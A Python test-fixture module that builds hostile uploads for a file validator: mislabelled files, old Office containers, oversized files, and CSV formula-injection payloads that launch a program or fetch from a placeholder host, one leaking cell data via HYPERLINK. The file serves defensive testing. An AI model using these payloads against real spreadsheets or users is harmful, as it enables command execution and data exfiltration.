"""Files that are not what they say they are, tables that act, files of old Office, and texts that are none."""

from collections.abc import Iterator

from tests.builders.files import a_pdf, a_word_file
from tests.door.hostile import Hostile
from tests.door.hostile_pictures import a_picture
from tests.door.hostile_sheets import a_sheet
from workflow.door.kinds import Kind

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
_STARTS = "has a formula that starts a program"
_FETCHES = "has a formula that fetches something from elsewhere"
STREAMS = {
    "a Word file with a password": ("EncryptedPackage", "theirs.docx", "is protected with a password"),
    "an old Word file": ("WordDocument", "theirs.doc", "is an old Word file (.doc)"),
    "an old Word file by a new name": ("WordDocument", "theirs.docx", "is an old Word file (.doc)"),
    "an old spreadsheet": ("Workbook", "theirs.xls", "is an old spreadsheet (.xls)"),
    "a message of Outlook": ("__substg1.0_0037001F", "theirs.msg", "is a message saved from Outlook (.msg)"),
    "an installer": ("Installer", "theirs.msi", "is an old Office file"),
}
RENAMED = {
    "a PDF called .docx": ("theirs.docx", a_pdf(), "ends in .docx and is a PDF"),
    "a Word file called .pdf": ("theirs.pdf", a_word_file(), "ends in .pdf and is a Word file"),
    "a Word file called .xlsx": ("theirs.xlsx", a_word_file(), "ends in .xlsx and is a Word file"),
    "a Word file called .exe": ("theirs.docx.exe", a_word_file(), "ends in .exe and is a Word file"),
    "a Word file called .docm": ("theirs.docm", a_word_file(), "ends in .docm and is a Word file"),
    "a spreadsheet called .docx": ("theirs.docx", a_sheet(), "ends in .docx and is a spreadsheet"),
    "a picture called .pdf": ("theirs.pdf", a_picture("PNG"), "ends in .pdf and is a picture (PNG)"),
    "a JPEG called .png": ("theirs.png", a_picture("JPEG"), "ends in .png and is a picture (JPEG)"),
    "a text called .pdf": ("theirs.pdf", b"Dear all,", "ends in .pdf and is a text"),
    "a text called .docx": ("theirs.docx", b"Dear all,", "ends in .docx and is a text"),
    "a text called .bat": ("theirs.bat", b"del *.*", "ends in .bat and is a text"),
    "a text called .js": ("theirs.js", b"evil()", "ends in .js and is a text"),
    "a program called .pdf": ("theirs.pdf", b"MZ" + bytes(200), "is a program"),
    "a program of Linux called .txt": ("theirs.txt", b"\x7fELF" + bytes(200), "is a program"),
    "a web page called .txt": ("theirs.txt", b"<html><script>evil()</script></html>", "is a web page"),
    "a web page in capitals": ("theirs.txt", b"  <!DOCTYPE HTML><SCRIPT>", "is a web page"),
    "a web page behind a mark": ("theirs.txt", b"\xef\xbb\xbf<html>", "is a web page"),
    "a rich text": ("theirs.rtf", rb"{\rtf1 {\object\objocx}}", "is a rich text (.rtf)"),
    "a rich text called .docx": ("theirs.docx", rb"{\rtf1 evil}", "is a rich text (.rtf)"),
    "a Word file as one XML": ("theirs.xml", b"<?xml version='1.0'?><w:wordDocument/>", "is a file of XML"),
    "a packed file": ("theirs.gz", b"\x1f\x8b\x08" + bytes(20), "is a packed file"),
    "another packed file": ("theirs.7z", b"7z\xbc\xaf'\x1c" + bytes(20), "is a packed file"),
    "a third packed file": ("theirs.rar", b"Rar!\x1a\x07\x01" + bytes(20), "is a packed file"),
    "nothing but noughts": ("theirs.txt", bytes(1_000), "is of no kind that the office can read"),
    "a text that moves the cursor": (
        "theirs.txt",
        b"Dear \x1b[31mall",
        "is of no kind that the office can read",
    ),
}
CELLS = {
    "=cmd|'/c calc'!A0": _STARTS,
    "+cmd|'/c calc'!A0": _STARTS,
    "-2+3+cmd|'/c calc'!A0": _STARTS,
    "@SUM(1)*cmd|'/c calc'!A0": _STARTS,
    "\"=cmd|'/c calc'!A0\"": _STARTS,
    " =cmd|'/c calc'!A0": _STARTS,
    '=WEBSERVICE("{elsewhere}")': _FETCHES,
    '=HYPERLINK("{elsewhere}?"&A1,"x")': _FETCHES,
    '"=IMPORTXML(""{elsewhere}"",""//a"")"': _FETCHES,
    "=importdata(A1)": _FETCHES,
    '=1+DDE("cmd";"/c evil";"x")': _FETCHES,
}
OTHERWISE = {
    "a PDF as a case": (Kind.CASE, a_pdf(), "is a PDF, where a case file (.toml or .json) is needed"),
    "a Word file as a table": (Kind.TABLE, a_word_file(), "is a Word file (.docx), where a table (.csv) is needed"),
    "a text as a PDF": (Kind.PDF, b"Dear all,", "is a text (.txt), where a PDF is needed"),
    "a text as a letterhead": (Kind.LETTERHEAD, b"Dear all,", "is a text (.txt), where a Word file (.docx) is needed"),
    "a picture as a font": (Kind.FONT, a_picture("PNG"), "is a picture (PNG), where a font"),
    "a case that is none": (Kind.CASE, b"title = \xff", ": it is not text in UTF-8"),
    "a template that is none": (Kind.TEMPLATE, b"# A\n\xff", ": it is not text in UTF-8"),
    "a case without an end": (Kind.CASE, b"a" * (2 * 2**20 + 1), "is larger than 2 MB"),
    "a letterhead of 6 MB": (Kind.LETTERHEAD, b"PK\x03\x04" + bytes(6 * 2**20), "is larger than 5 MB"),
    "a text of 11 MB": (Kind.TEXT, b"a\n" * (11 * 2**19), "is larger than 10 MB"),
}  # fmt: skip


def hostile(elsewhere: str) -> Iterator[Hostile]:
    for tries, (stream, name, said) in STREAMS.items():
        yield Hostile(tries, name, _OLE + stream.encode("utf-16-le") + bytes(200), said)
    for tries, (name, content, said) in RENAMED.items():
        yield Hostile(tries, name, content, said)
    for cell, said in CELLS.items():
        table = f"name,value\nx,{cell.replace('{elsewhere}', elsewhere)}\n".encode()
        yield Hostile(f"a table with {cell}", "values.csv", table, said)
    wide = "name;value\nx;=cmd|'/c calc'!A0\n".encode("utf-16")
    yield Hostile("a table with a formula in wide letters", "values.csv", wide, _STARTS)
    for tries, (kind, content, said) in OTHERWISE.items():
        yield Hostile(tries, "theirs", content, said, (kind,))
    yield Hostile("a file of 50 MB and a byte", "theirs.pdf", bytes(50 * 2**20 + 1), "is larger than 50 MB")
